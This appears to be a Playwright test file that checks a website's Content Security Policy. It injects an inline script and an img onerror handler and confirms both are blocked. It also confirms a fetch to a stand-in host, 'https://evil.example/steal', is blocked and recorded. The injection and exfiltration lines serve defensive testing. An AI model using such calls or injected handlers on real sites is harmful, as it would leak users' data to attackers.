import { DEFAULT_AVATAR } from "@/features/testimonials/constants";
import type { Browser } from "@playwright/test";
import { collectCspViolations, expect, test, type CspViolation, type Page } from "./fixtures";

// The policy blocks what an attacker would inject, and the fixture every test uses sees it. The
// violations are recorded in a context of this test's own, so the fixture of this test (which
// watches the default context) stays clean.
/** Runs `body` on a page of a context of its own, with that context's violations recorded. */
async function ownPage(
  browser: Browser,
  baseURL: string | undefined,
  body: (page: Page, violations: CspViolation[]) => Promise<void>,
) {
  const context = await browser.newContext({ baseURL: baseURL! });
  try {
    const violations = await collectCspViolations(context);
    await body(await context.newPage(), violations);
  } finally {
    await context.close();
  }
}

test("an injected inline script is blocked and the CSP fixture records it", async ({
  browser,
  baseURL,
}) => {
  await ownPage(browser, baseURL, async (page, violations) => {
    await page.goto("/");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.injected = 'ran'";
      document.body.append(script);
      const img = document.createElement("img");
      img.setAttribute("onerror", "document.body.dataset.handler = 'ran'");
      img.src = "/no-such-image.png";
      document.body.append(img);
    });
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
    expect(await page.evaluate(() => document.body.dataset.injected)).toBeUndefined();
    expect(await page.evaluate(() => document.body.dataset.handler)).toBeUndefined();
    expect(violations).toContainEqual(
      expect.objectContaining({ directive: "script-src-elem", blocked: "inline" }),
    );
    expect(violations).toContainEqual(
      expect.objectContaining({ directive: "script-src-attr", blocked: "inline" }),
    );
  });
});

test("a connection to an origin the policy does not list is blocked and recorded", async ({
  browser,
  baseURL,
}) => {
  await ownPage(browser, baseURL, async (page, violations) => {
    await page.goto("/contact");
    await page.evaluate(() => fetch("https://evil.example/steal").catch(() => null));
    await expect
      .poll(() => violations.map((v) => `${v.directive} ${v.blocked}`))
      .toContain("connect-src https://evil.example/steal");
  });
});

test("a testimonial card added later falls back to the default avatar without inline handlers", async ({
  page,
}) => {
  await page.route("**/broken-avatar-*.jpg", (route) => route.fulfill({ status: 404, body: "" }));
  await page.goto("/expertise");
  await page.evaluate(async () => {
    const card = document.querySelector("figure")!;
    // One image fails before its card is in the page, one after.
    const early = card.cloneNode(true) as HTMLElement;
    early.dataset.test = "early";
    const earlyImg = early.querySelector<HTMLImageElement>('[data-field="image"]')!;
    earlyImg.loading = "eager";
    await new Promise((resolve) => {
      earlyImg.addEventListener("error", resolve, { once: true });
      earlyImg.src = "/broken-avatar-1.jpg";
    });
    card.after(early);
    const late = card.cloneNode(true) as HTMLElement;
    late.dataset.test = "late";
    const lateImg = late.querySelector<HTMLImageElement>('[data-field="image"]')!;
    lateImg.loading = "eager";
    lateImg.src = "/broken-avatar-2.jpg";
    card.after(late);
  });
  for (const name of ["early", "late"]) {
    await expect(page.locator(`[data-test="${name}"] img`)).toHaveAttribute("src", DEFAULT_AVATAR);
  }
  expect(await page.locator("[onerror], [onload], [onclick]").count()).toBe(0);
});
